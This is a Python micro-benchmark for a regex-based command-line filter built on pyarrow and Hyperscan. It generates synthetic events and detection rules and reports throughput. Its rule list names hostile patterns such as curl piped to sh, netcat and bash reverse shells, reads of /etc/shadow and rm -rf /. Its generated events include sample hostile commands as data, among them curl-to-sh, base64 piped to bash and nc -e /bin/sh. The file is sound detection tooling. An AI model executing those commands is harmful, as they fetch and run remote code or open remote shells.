"""Micro-benchmark of the filter core (pure Python + pyarrow + Hyperscan, no Spark).

Generates M reproducible JSON-like events with a ``cmd`` command line and N
reproducible regex rules over it (IOC literals, classes, alternations, caseless
and word-bounded tokens, typical security patterns such as ``curl .*\\| *sh``),
compiles them, runs the matcher over Arrow batches and prints events/s and MB/s
(MB of the events' JSON text). The last line is machine-readable:

    filter_core rules=N events=M events_per_s=X mb_s=Y

Usage: python bench/filter_core.py --rules 10000 --events 200000 [--batch 10000] [--seed 7] [--repeat 3]
"""

from __future__ import annotations

import argparse
import json
import random
import string
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

import pyarrow as pa  # noqa: E402

from etl.optimize import compile_rules  # noqa: E402
from etl.optimize.matcher import Matcher  # noqa: E402
from etl.spec.rules import Rule  # noqa: E402

SECURITY = [
    r"curl .*\| *sh", r"wget\s+https?://\S+\.(sh|py|pl)\b", r"\bnc\s+-e\s+/bin/(ba)?sh", r"base64\s+-d",
    r"echo\s+[A-Za-z0-9+/=]{16,}\s*\|\s*base64", r"/etc/(passwd|shadow)", r"chmod\s+\+x\s+/tmp/\w+",
    r"python[23]?\s+-c\s+.*socket", r"\bnmap\b", r"(?i)mimikatz", r"bash\s+-i\s+>&\s*/dev/tcp/",
    r"rm\s+-rf\s+/(\s|$)", r"\bcrontab\s+-r\b", r"ssh\s+-R\s+\d+:", r"powershell.*-enc",
]
WORDS = ["ls", "cat", "grep", "find", "tar", "ssh", "scp", "rsync", "python3", "java", "node", "git", "docker",
         "kubectl", "systemctl", "journalctl", "ps", "top", "df", "du", "awk", "sed", "vim", "make", "gcc"]
HOSTS = ["api.internal", "db01", "cache-2", "example.com", "10.0.0.12", "files.corp.local", "github.com"]


def _token(rng: random.Random, k: int) -> str:
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(k))


def make_rules(n: int, seed: int) -> list[Rule]:
    rng = random.Random(seed)
    out = []
    for i in range(n):
        roll = rng.random()
        if i < len(SECURITY):
            rx, caseless = SECURITY[i], False
        elif roll < 0.35:  # IOC literal: a domain, a file name or a hash prefix
            rx, caseless = rng.choice([
                lambda: rf"{_token(rng, 7)}\.(com|net|io)",
                lambda: rf"/tmp/\.{_token(rng, 6)}",
                lambda: _token(rng, 12),
            ])(), False
        elif roll < 0.55:  # literal with classes and repeats
            rx, caseless = rf"{rng.choice(WORDS)}\s+-{rng.choice(string.ascii_letters)}\s+{_token(rng, 4)}[0-9]{{2,4}}", False
        elif roll < 0.70:  # alternation of tokens
            rx, caseless = "(" + "|".join(_token(rng, rng.randint(5, 9)) for _ in range(rng.randint(2, 4))) + ")", False
        elif roll < 0.82:  # caseless tool names
            rx, caseless = _token(rng, rng.randint(6, 10)) + rng.choice(["", r"\.exe", r"\.ps1"]), True
        elif roll < 0.92:  # word-bounded
            rx, caseless = rf"\b{_token(rng, 6)}\b", False
        else:  # argument patterns
            rx, caseless = rf"--{_token(rng, 5)}=\S*{_token(rng, 3)}", False
        out.append(Rule.model_validate({"id": f"rule_{i}", "when": {"field": "cmd", "regex": rx, "caseless": caseless}}))
    return out


def make_events(m: int, seed: int) -> list[dict]:
    rng = random.Random(seed + 1)
    out = []
    for i in range(m):
        r = rng.random()
        if r < 0.01:
            cmd = f"curl -s http://{rng.choice(HOSTS)}/{_token(rng, 6)}.sh | sh"
        elif r < 0.02:
            cmd = f"echo {_token(rng, 24)}== | base64 -d | bash"
        elif r < 0.025:
            cmd = f"nc -e /bin/sh {rng.choice(HOSTS)} {rng.randint(1024, 65535)}"
        else:
            w = rng.choice(WORDS)
            args = " ".join(rng.choice([f"-{rng.choice(string.ascii_letters)}", f"/var/{_token(rng, 5)}/{_token(rng, 8)}",
                                        f"--{_token(rng, 5)}={_token(rng, 6)}", rng.choice(HOSTS), str(rng.randint(0, 99999))])
                            for _ in range(rng.randint(1, 6)))
            cmd = f"{w} {args}"
        out.append({"ts": 1_700_000_000_000 + i, "host": rng.choice(HOSTS), "user": rng.choice(["root", "app", "alice"]),
                    "pid": rng.randint(1, 65535), "cmd": cmd})
    return out


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--rules", type=int, default=1000)
    ap.add_argument("--events", type=int, default=200_000)
    ap.add_argument("--batch", type=int, default=10_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--repeat", type=int, default=3, help="timed passes over the events; the best is reported")
    args = ap.parse_args(argv)

    rules = make_rules(args.rules, args.seed)
    events = make_events(args.events, args.seed)
    mb = sum(len(json.dumps(e)) + 1 for e in events) / 1e6
    batches = [pa.RecordBatch.from_pylist(events[i:i + args.batch]) for i in range(0, len(events), args.batch)]

    t0 = time.perf_counter()
    program = compile_rules(rules)
    t_compile = time.perf_counter() - t0
    db_bytes = sum(len(d.serialized or b"") for d in program.databases)
    prefilter = sum(1 for d in program.databases for p in d.patterns if p.ascii_rows != "exact")
    print(f"compiled {len(rules)} rules in {t_compile:.2f} s: {sum(len(d.patterns) for d in program.databases)} "
          f"Hyperscan patterns ({db_bytes} bytes), {prefilter} prefilter, {len(program.fallbacks)} python fallbacks")

    matcher = Matcher(program)
    matcher.match(batches[0])  # load the database and scratch once (per process)
    best = cpu = float("inf")
    for _ in range(args.repeat):  # best of N passes: the machine may be shared
        matched_events = matched_pairs = 0
        t0, c0 = time.perf_counter(), time.process_time()
        for b in batches:
            res = matcher.match(b)
            matched_events += int(res.mask().sum())
            matched_pairs += len(res.rows)
        best = min(best, time.perf_counter() - t0)
        cpu = min(cpu, time.process_time() - c0)
    dt = best
    cache = matcher.cache
    print(f"matched {matched_events} events ({matched_pairs} rule matches); "
          f"fingerprint cache {'on' if cache and cache.enabled else 'off'} "
          f"(hit rate {cache.hit_rate if cache else 0:.2f})")
    print(f"{args.events / dt:,.0f} events/s, {mb / dt:.1f} MB/s ({mb:.1f} MB in {dt:.2f} s wall, "
          f"{cpu:.2f} s CPU; best of {args.repeat})")
    print(f"filter_core rules={args.rules} events={args.events} events_per_s={args.events / dt:.0f} mb_s={mb / dt:.1f}")


if __name__ == "__main__":
    main()
